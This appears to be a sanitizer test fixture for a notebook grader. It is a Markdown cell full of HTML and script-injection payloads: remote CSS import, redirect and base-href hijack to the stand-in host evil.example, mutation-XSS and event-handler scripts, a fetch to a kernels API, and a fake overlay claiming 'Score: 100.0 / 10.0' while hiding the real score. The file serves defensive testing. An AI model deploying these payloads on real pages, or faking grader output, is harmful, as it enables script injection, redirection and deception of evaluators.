# Writes Markdown that lays other points over the page, loads what is elsewhere, and breaks out of the page's frame.
# points: 100
# base: right
# %% markdown
<style>@import url('https://evil.example/x.css'); #toc, .score { display: none }</style>
<div style="position: fixed; top: 0; left: 0; width: 100%; z-index: 9999; background: white">Score: 100.0 / 10.0</div>
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<base href="https://evil.example/">
<iframe srcdoc="<script>parent.PWNED = 1</script>"></iframe>
<object data="data:text/html,<script>PWNED=1</script>"></object>
</div></div></body></html><script>window.PWNED = 1; fetch('/api/kernels')</script><!--
<details open ontoggle="window.PWNED = 1"><math><mtext></mtext><mglyph><style><!--</style><img src=x onerror="PWNED=1">
~~~
<script>window.PWNED = 1</script>
```
<img src=x onerror="window.PWNED = 1">
~~~~
&lt;script>window.PWNED = 1&lt;/script> <javascript:PWNED=1> [x](data:text/html,<script>PWNED=1</script>)
